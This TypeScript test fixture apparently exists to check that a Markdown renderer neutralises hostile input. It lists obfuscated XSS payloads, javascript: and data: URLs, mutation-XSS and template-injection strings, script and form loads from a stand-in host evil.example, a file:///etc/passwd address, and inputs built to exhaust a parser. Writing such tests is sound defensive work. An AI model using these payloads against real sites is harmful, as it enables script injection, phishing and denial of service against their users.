/** Markdown that means harm: scripts in every disguise, links that are not links, and shapes that exhaust a parser. Also opened in Chromium. */

const JS = 'javascript:window.pwned=1'
const times = (text: string, count: number) => text.repeat(count)

/** Addresses that must not become links. */
export const hostileAddresses = [
  JS, 'JAVASCRIPT:window.pwned=1', 'JaVaScRiPt:window.pwned=1', ' javascript:window.pwned=1', 'java\tscript:window.pwned=1', 'java&#10;script:window.pwned=1', 'java&Tab;script:window.pwned=1',
  'javascript&colon;window.pwned=1', '&#106;avascript:window.pwned=1', '&#x6A;avascript:window.pwned=1', '&#0000106avascript:window.pwned=1', '\u0001javascript:window.pwned=1', '&#1;javascript:window.pwned=1',
  'javascript://example.org/%0Awindow.pwned=1', 'javascript:/*--></title></style><img onerror=window.pwned=1 src=x>', 'vbscript:msgbox(1)', 'data:text/html,<script>window.pwned=1</script>',
  'data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==', 'data:image/svg+xml,<svg onload=window.pwned=1>', 'blob:https://example.org/x', 'file:///etc/passwd', 'ftp://example.org/', 'view-source:https://example.org',
  'about:blank', 'filesystem:https://example.org/x', 'ws://example.org', 'intent://x#Intent;scheme=http;end', 'feed:javascript:window.pwned=1', 'jar:https://example.org!/', '//evil.example/x', '/\\evil.example', '\\\\evil.example',
  '/\t/evil.example', '/.//evil.example', 'https:evil.example', 'https:/evil.example', 'https:///evil.example', 'https:\\\\evil.example', 'https://user:secret@evil.example/', 'https://example.org@evil.example/', 'https://', 'http://[::1',
  'https://exa mple.org/', 'https://example.org/\u202Egpj.exe', 'https://ex\u200Bample.org', 'mailto:', 'mailto:a@example.org%0d%0aBcc:b@example.org', 'mailto:a@example.org?bcc=b@example.org', 'tel:+15550100', 'sms:+15550100',
  '?q=1', '#fragment', 'evil.html', './evil', '../evil', 'xn--javascript:window.pwned=1', `https://example.org/${'a'.repeat(3000)}`,
]

const html = [
  '<script>window.pwned=1</script>', '<SCRIPT SRC=//evil.example/x.js></SCRIPT>', '<scr<script>ipt>window.pwned=1</scr</script>ipt>', '<script\n>window.pwned=1</script\n>', '<script/x>window.pwned=1</script>', '</p><script>window.pwned=1</script>',
  '<img src=x onerror=window.pwned=1>', '<img src="https://evil.example/pixel.gif">', '<img src=x:x onerror=\'window.pwned=1\'//', '<svg onload=window.pwned=1>', '<svg><script>window.pwned=1</script></svg>', '<svg><animate onbegin=window.pwned=1 attributeName=x>',
  '<svg><use href="data:image/svg+xml;base64,PHN2Zy8+#x"/></svg>', '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.pwned=1&gt;">', '<iframe src="javascript:window.pwned=1"></iframe>', '<iframe srcdoc="<script>top.pwned=1</script>"></iframe>',
  '<object data="data:text/html,<script>window.pwned=1</script>"></object>', '<embed src="javascript:window.pwned=1">', '<base href="https://evil.example/">', '<meta http-equiv="refresh" content="0;url=https://evil.example/">', '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css"; body { display: none }</style>', '<div style="background:url(https://evil.example/x)">', '<body onload=window.pwned=1>', '<input autofocus onfocus=window.pwned=1>', '<details open ontoggle=window.pwned=1>', '<video><source onerror=window.pwned=1>',
  '<audio src=x onerror=window.pwned=1>', '<marquee onstart=window.pwned=1>', '<form action="https://evil.example/"><button>Sign in</button></form>', '<button formaction="javascript:window.pwned=1">x</button>', '<a href="javascript:window.pwned=1">x</a>', '<a href=x onclick=window.pwned=1>x</a>',
  '<template><script>window.pwned=1</script></template>', '<noscript><p title="</noscript><img src=x onerror=window.pwned=1>"></noscript>', '<textarea></textarea><img src=x onerror=window.pwned=1>', '<title></title><script>window.pwned=1</script>', '<!--><script>window.pwned=1</script>-->',
  '<![CDATA[<script>window.pwned=1</script>]]>', '<?php echo 1 ?>', '<!DOCTYPE html><script>window.pwned=1</script>', '<x onclick=window.pwned=1 tabindex=1 autofocus onfocus=window.pwned=1>', '<component :is="\'script\'">window.pwned=1</component>', '<slot name="x" v-html="window.pwned=1"/>',
  'text <b onmouseover=window.pwned=1>bold</b> text', '> <script>window.pwned=1</script>', '- <img src=x onerror=window.pwned=1>', '# <script>window.pwned=1</script>', '| <script>window.pwned=1</script> |\n| --- |\n| <img src=x onerror=window.pwned=1> |', '\u0000<script>window.pwned=1</script>', '<scr\u0000ipt>window.pwned=1</script>',
  '\uFF1Cscript\uFF1Ewindow.pwned=1\uFF1C/script\uFF1E', '&lt;script&gt;window.pwned=1&lt;/script&gt;', '&#60;script&#62;window.pwned=1&#60;/script&#62;', '`<script>window.pwned=1</script>`', '```html\n<script>window.pwned=1</script>\n```', '    <script>window.pwned=1</script>',
]

const constructs = [
  ...['javascript:window.pwned=1', 'data:text/html,<script>window.pwned=1</script>'].flatMap(url => [
    `[x][y]\n\n[y]: ${url}`, `[y]\n\n[y]: <${url}> "t"`, `<${url}>`, `![x](${url})`, `[![x](${url})](${url})`, `| [x](${url}) |\n| --- |`, `**[x](${url})**`, `# [x](${url})`,
  ]),
  '![](https://evil.example/pixel.gif)', '![" onerror="window.pwned=1](x)', '![x](https://evil.example/x.png "\\" onload=\\"window.pwned=1")', '[x](https://example.org "\\"><script>window.pwned=1</script>")', '[x](https://example.org/"onmouseover="window.pwned=1)',
  '[x](https://example.org/\'><script>window.pwned=1</script>)', '[<img src=x onerror=window.pwned=1>](https://example.org)', '[x](<https://example.org/><script>window.pwned=1</script>)', '[x]: javascript:window.pwned=1\n[x]: https://example.org\n\n[x]', '```" onclick="window.pwned=1\nx\n```', '``` <script>window.pwned=1</script>\nx\n```',
  ':span[x]{onclick="window.pwned=1"}', '::script\nwindow.pwned=1\n::', '[x]{onclick="window.pwned=1"}', '[x](https://example.org){:href="javascript:window.pwned=1"}', '{{ window.pwned = 1 }}', '{{constructor.constructor("window.pwned=1")()}}', '${window.pwned=1}', '<%= window.pwned=1 %>', '#{window.pwned=1}',
  '---\ntitle: <script>window.pwned=1</script>\nconstructor: { name: x }\n---', '[^1]\n\n[^1]: <script>window.pwned=1</script>', '[^1]: javascript:window.pwned=1\n\n[^1]', '- [x] <script>window.pwned=1</script>', '__proto__: x\n\n[__proto__]\n\n[__proto__]: https://example.org', '[constructor][toString]\n\n[toString]: javascript:window.pwned=1',
  'www.evil.example https://evil.example/x evil@evil.example', '\u202Etxet desrever\u202C', 'e' + times('\u0301', 500), times('\uD83C', 20), '\uDFAC\uD83C', '\uFFFE\uFFFF\u0001\u0008\u001B[31m', times('🎬', 2000), times('\u200B', 500),
]

/** Too deep or too many for any honest text; each would stop an unguarded parser, its stack or the page. */
export const exhausting: Record<string, string> = {
  'a line of list marks': times('- ', 3000) + 'x',
  'a line of plus signs': times('+ ', 3000) + 'x',
  'a line of numbers': times('1. ', 2000) + 'x',
  'a wall of quotation marks': times('>', 50_000),
  'quotations in lists': times('> - ', 40) + 'x',
  'steps of lists': Array.from({ length: 60 }, (_, i) => `${' '.repeat(2 * i)}- a`).join('\n'),
  'brackets': times('[', 50_000),
  'brackets, closed': times('[', 5_000) + times(']', 5_000),
  'pictures never closed': times('![', 20_000),
  'links never closed': times('[a](', 10_000),
  'asterisks': times('*', 8_000) + 'a' + times('*', 8_000),
  'stars and letters': times('a*', 12_000),
  'stars and underscores': times('*a_ ', 10_000),
  'tildes': times('~~a', 10_000),
  'backticks of every length': Array.from({ length: 400 }, (_, i) => '`'.repeat(i)).join(' '),
  'angle brackets': times('<', 50_000),
  'comments never closed': times('<!--', 20_000),
  'a table of ten thousand cells': '|a|b|\n|-|-|\n' + times('|a|b|\n', 5_000),
  'a table a mile wide': times('|a', 5_000) + '\n' + times('|-', 5_000),
  'underlined headings': times('a\n=\n', 8_000),
  'a lazy quotation': '> a\n' + times('b\n', 12_000),
  'definitions': Array.from({ length: 3_000 }, (_, i) => `[${i}]: /${i}`).join('\n'),
  'six thousand paragraphs': times('a\n\n', 6_000),
  'one byte too many': times('a', 100_001),
  'signs of three bytes': times('映', 33_334),
}

/** All that must be drawn harmlessly. */
export const hostile: string[] = [...html, ...constructs, ...hostileAddresses.flatMap(url => [`[click](${url})`, `[click](<${url}>)`])]
